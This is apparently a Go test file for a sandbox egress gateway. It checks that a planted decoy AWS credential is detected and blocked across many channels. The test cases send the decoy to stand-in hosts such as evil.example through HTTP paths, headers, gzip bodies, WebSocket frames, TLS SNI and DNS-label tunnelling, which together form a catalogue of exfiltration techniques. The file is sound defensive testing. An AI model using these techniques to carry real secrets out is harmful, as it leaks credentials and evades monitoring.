package egress

import (
	"bytes"
	"compress/gzip"
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/net/dns/dnsmessage"

	"ringwall/internal/egress/tripwire"
	"ringwall/internal/evidence"
	"ringwall/internal/plan"
)

// theDecoy is planted, theOther is a text of the same length that is not.
const (
	theDecoy = "q7Zt0LmX3vRb9KdWs5NpYc1HgFe8JuAo2TiQxBzD"
	theOther = "w4Hs8PnE1yUf6GkVa3MrJd0QbCz9XtLo5IvTgKyN"
)

func (j *journal) alarms() []evidence.Alarm {
	j.mu.Lock()
	defer j.mu.Unlock()
	var out []evidence.Alarm
	for _, e := range j.events {
		if e.Alarm != nil {
			out = append(out, *e.Alarm)
		}
	}
	return out
}

// catcher is an upstream that keeps what it was sent, and answers every request.
type catcher struct {
	addr string
	mu   sync.Mutex
	got  bytes.Buffer
}

func newCatcher(t testing.TB) *catcher {
	s := &catcher{}
	s.addr = listen(t, s.serve)
	return s
}

func (s *catcher) serve(c net.Conn) {
	buf, answered := make([]byte, 4096), 0
	for {
		n, err := c.Read(buf)
		s.mu.Lock()
		s.got.Write(buf[:n])
		all := s.got.Bytes()
		heads, upgrade := bytes.Count(all, []byte("\r\n\r\n")), bytes.Contains(all, []byte("Upgrade: websocket"))
		s.mu.Unlock()
		for ; answered < heads; answered++ {
			if upgrade {
				fmt.Fprint(c, "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n")
			} else {
				fmt.Fprint(c, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
			}
		}
		if err != nil {
			return
		}
	}
}

func (s *catcher) text() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.got.String()
}

// way is one of sending a text out.
type way struct {
	name  string
	send  func(t *testing.T, r *rig, text string)
	where string // of the alarm
	to    string // its beginning
	rule  string
	ends  bool // the text reaches the upstream if it is not the decoy
}

// http sends a head and what follows it, after another request.
func (r *rig) http(t *testing.T, head, body string) {
	t.Helper()
	c := dialTest(t, r.address(t, "a.example", 80))
	for _, part := range []string{"GET / HTTP/1.1\r\nHost: a.example\r\n\r\n", head + body} {
		if _, err := io.WriteString(c, part); err != nil {
			return
		}
		if _, err := c.Read(make([]byte, 4096)); err != nil {
			return
		}
	}
}

func posting(body, more string) string {
	return fmt.Sprintf("POST / HTTP/1.1\r\nHost: a.example\r\nContent-Length: %d\r\n%s\r\n", len(body), more)
}

func gzipOf(text string) string {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	_, _ = io.WriteString(w, text)
	w.Close()
	return b.String()
}

// labels writes a text as labels of a name.
func labels(text string) string {
	return text[:30] + "." + text[30:60] + "." + text[60:] + ".evil.example"
}

func ways() []way {
	const a, rule = "a.example:80", "network.allow:a.example:80"
	const get = "GET %s HTTP/1.1\r\nHost: a.example\r\n%s\r\n"
	b64 := base64.StdEncoding.EncodeToString
	return []way{
		{"path", func(t *testing.T, r *rig, s string) { r.http(t, fmt.Sprintf(get, "/x/"+s, ""), "") }, inPath, a, rule, true},
		{"query", func(t *testing.T, r *rig, s string) {
			r.http(t, fmt.Sprintf(get, "/?k="+hex.EncodeToString([]byte(s)), ""), "")
		}, inQuery, a, rule, true},
		{"header", func(t *testing.T, r *rig, s string) {
			r.http(t, fmt.Sprintf(get, "/", "X-Trace: "+b64([]byte("x:"+s))+"\r\n"), "")
		}, inHeader, a, rule, true},
		{"body", func(t *testing.T, r *rig, s string) { r.http(t, posting(s, ""), s) }, inBody, a, rule, true},
		{"half of it", func(t *testing.T, r *rig, s string) { r.http(t, posting(s[20:], ""), s[20:]) }, inBody, a, rule, true},
		{"packed body", func(t *testing.T, r *rig, s string) {
			z := gzipOf("password: " + s)
			r.http(t, posting(z, "Content-Encoding: gzip\r\n"), z)
		}, inBody, a, rule, true},
		{"chunks", func(t *testing.T, r *rig, s string) {
			r.http(t, "POST / HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: chunked\r\n\r\n",
				fmt.Sprintf("a\r\n%s\r\na\r\n%s\r\n14\r\n%s\r\n0\r\n\r\n", s[:10], s[10:20], s[20:]))
		}, inBody, a, rule, true},
		{"websocket", func(t *testing.T, r *rig, s string) {
			head := fmt.Sprintf(get, "/ws", "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n")
			c := dialTest(t, r.address(t, "a.example", 80))
			_, _ = io.WriteString(c, head)
			_, _ = c.Read(make([]byte, 4096))
			send(t, c, masked(s))
		}, inSocket, a, rule, true},
		{"raw stream", func(t *testing.T, r *rig, s string) {
			send(t, dialTest(t, r.address(t, "raw.example", 2222)), []byte("\x00\x01"+b64([]byte(s))))
		}, inStream, "raw.example:2222", "network.allow:raw.example:2222", true},
		{"refused host", func(t *testing.T, r *rig, s string) {
			send(t, dialTest(t, "192.0.2.1:80"), []byte("POST /up HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 40\r\n\r\n"+s))
		}, inBody, "192.0.2.1:80", "", false},
		{"refused TLS", func(t *testing.T, r *rig, s string) {
			send(t, dialTest(t, "192.0.2.1:443"), []byte(handmadeHello(sniExtension(labels(hex.EncodeToString([]byte(s)))))))
		}, inHello, "192.0.2.1:443", "", false},
		{"malformed head", func(t *testing.T, r *rig, s string) {
			r.http(t, "GET / HTTP/1.1\r\nHost: a.example\r\nHost: b.example\r\nX: "+s+"\r\n\r\n", "")
		}, inHeader, a, "", false},
		{"malformed first head", func(t *testing.T, r *rig, s string) {
			send(t, dialTest(t, r.address(t, "a.example", 80)), []byte("GET / HTTP/1.1\r\nHost: a.example\r\n Folded: "+s+"\r\n\r\n"))
		}, inHeader, a, rule, false},
		{"plain HTTP where TLS belongs", func(t *testing.T, r *rig, s string) {
			send(t, dialTest(t, r.address(t, "tls.example", 443)), []byte("GET /"+s+" HTTP/1.1\r\nHost: tls.example\r\n\r\n"))
		}, inPath, "tls.example:443", "network.allow:tls.example:443", false},
		{"name", func(t *testing.T, r *rig, s string) {
			c, err := net.Dial("udp", "127.0.0.1:53")
			if err != nil {
				t.Fatal(err)
			}
			defer c.Close()
			name := labels(strings.ToLower(base32.StdEncoding.EncodeToString([]byte(s + "....."))))
			_, _ = c.Write(packed(t, question(name+".", dnsmessage.TypeA)))
			_ = c.SetReadDeadline(time.Now().Add(time.Second))
			_, _ = c.Read(make([]byte, 512))
		}, inName, "", "", false},
	}
}

// masked is a frame of a WebSocket.
func masked(s string) []byte {
	b := append([]byte{0x81, 0x80 | byte(len(s))}, "\x11\x22\x33\x44"...)
	for i := range len(s) {
		b = append(b, s[i]^b[2+i%4])
	}
	return b
}

// trapped is a rig whose sandbox has the decoy.
func trapped(t *testing.T) (*rig, *catcher) {
	up := newCatcher(t)
	r := newRig(t, up.addr, allow("a.example", 80), allow("raw.example", 2222), allow("tls.example", 443))
	r.cfg.Decoys = []tripwire.Value{{Name: "~/.aws/credentials", Kind: tripwire.Decoy, Cores: []string{theDecoy}}}
	return r.start(t), up
}

// TestDecoyIsCaught: whichever way it goes, to an allowed host or not, there is
// one alarm that tells from where and where to, and it does not get there. An
// ordinary text of the same length does, without an alarm.
func TestDecoyIsCaught(t *testing.T) {
	for _, w := range ways() {
		t.Run(w.name, func(t *testing.T) {
			r, up := trapped(t)
			w.send(t, r, theDecoy)
			r.Close()
			all := r.journal.alarms()
			if len(all) != 1 || all[0].Value != "~/.aws/credentials" || all[0].Kind != "decoy" || all[0].Where != w.where ||
				!strings.HasPrefix(all[0].To, w.to) || all[0].Rule != w.rule || all[0].Spelling == "" {
				t.Errorf("%+v", all)
			}
			if got := up.text(); strings.Contains(got, theDecoy[20:]) || w.where == inHeader && strings.Contains(got, "X-Trace") {
				t.Errorf("it got through: %q", got)
			}
			r, up = trapped(t)
			w.send(t, r, theOther)
			r.Close()
			if all := r.journal.alarms(); len(all) != 0 {
				t.Errorf("of another text: %+v", all)
			}
			if n := len(up.text()); w.ends && n < 40 {
				t.Errorf("another text did not get through: %q", up.text())
			}
		})
	}
}

// TestNothingGoesOutAfterAnAlarm: every connection is closed, those that were
// there before and that had nothing to do with it too, and none is taken.
func TestNothingGoesOutAfterAnAlarm(t *testing.T) {
	r, up := trapped(t)
	other := dialTest(t, r.address(t, "raw.example", 2222))
	if _, err := io.WriteString(other, "before"); err != nil {
		t.Fatal(err)
	}
	for !strings.Contains(up.text(), "before") {
		time.Sleep(time.Millisecond)
	}
	r.http(t, "GET /"+theDecoy+" HTTP/1.1\r\nHost: a.example\r\n\r\n", "")
	if _, err := other.Read(make([]byte, 1)); err == nil {
		t.Error("another connection is still open")
	}
	_, _ = io.WriteString(other, "after")
	if c, err := net.DialTimeout("tcp", r.address(t, "raw.example", 2222), 10*time.Second); err == nil {
		_, _ = io.WriteString(c, "after")
		c.Close()
	}
	r.Close()
	if strings.Contains(up.text(), "after") {
		t.Errorf("%q", up.text())
	}
}

// TestAlarmThatCannotBeRecorded is a fault, and nothing goes out either.
func TestAlarmThatCannotBeRecorded(t *testing.T) {
	r, up := trapped(t)
	r.journal.mu.Lock()
	r.journal.err = io.ErrShortWrite
	r.journal.mu.Unlock()
	send(t, dialTest(t, "192.0.2.1:80"), []byte("GET /"+theDecoy+" HTTP/1.1\r\nHost: a.example\r\n\r\n"))
	select {
	case <-r.Fault():
	case <-time.After(10 * time.Second):
		t.Error("no fault")
	}
	if up.text() != "" {
		t.Errorf("%q", up.text())
	}
}

// TestPlaceholderBelongsToItsHost: towards its credential's host it is what the
// gateway waits for, anywhere else an alarm. What the credential's form puts
// around it does not count.
func TestPlaceholderBelongsToItsHost(t *testing.T) {
	placeholder := "sk-" + theOther
	r := newRig(t, newCatcher(t).addr, allow("a.example", 80), keyControl(func(c *plan.Credential) {
		c.Shape = fmt.Sprintf("sk-%%%da", len(theOther))
	}))
	r.cfg.Secrets, r.cfg.Placeholders = map[string]string{"key": "s3cret"}, map[string]string{"key": placeholder + "\nid=AKIAHOLDER"}
	r.start(t)
	_ = send(t, dialTest(t, "127.0.0.1:9001"), []byte("GET / HTTP/1.1\r\nHost: 127.0.0.1:9001\r\nX-Api-Key: "+placeholder+"\r\n\r\n"))
	if all := r.journal.alarms(); len(all) != 0 {
		t.Errorf("on its way home: %+v", all)
	}
	r.http(t, "GET / HTTP/1.1\r\nHost: a.example\r\nX-Api-Key: sk-other\r\n\r\n", "")
	if all := r.journal.alarms(); len(all) != 0 {
		t.Errorf("only the form: %+v", all)
	}
	r.http(t, "GET / HTTP/1.1\r\nHost: a.example\r\nX-Api-Key: "+placeholder+"\r\n\r\n", "")
	r.Close()
	want := evidence.Alarm{Value: "key", Kind: tripwire.Placeholder, Spelling: "plain", Where: inHeader, To: "a.example:80", Rule: "network.allow:a.example:80"}
	if all := r.journal.alarms(); len(all) != 1 || all[0] != want {
		t.Errorf("elsewhere: %+v", all)
	}
}

// TestSentJustBeforeTheEnd: who sends it and is gone at once is caught too, also
// when the gateway is closed in the next moment.
func TestSentJustBeforeTheEnd(t *testing.T) {
	for range 30 {
		r, _ := trapped(t)
		c := dialTest(t, "192.0.2.1:443")
		_, _ = io.WriteString(c, theDecoy)
		c.Close()
		r.Close()
		if all := r.journal.alarms(); len(all) != 1 {
			t.Fatalf("%+v", all)
		}
	}
}
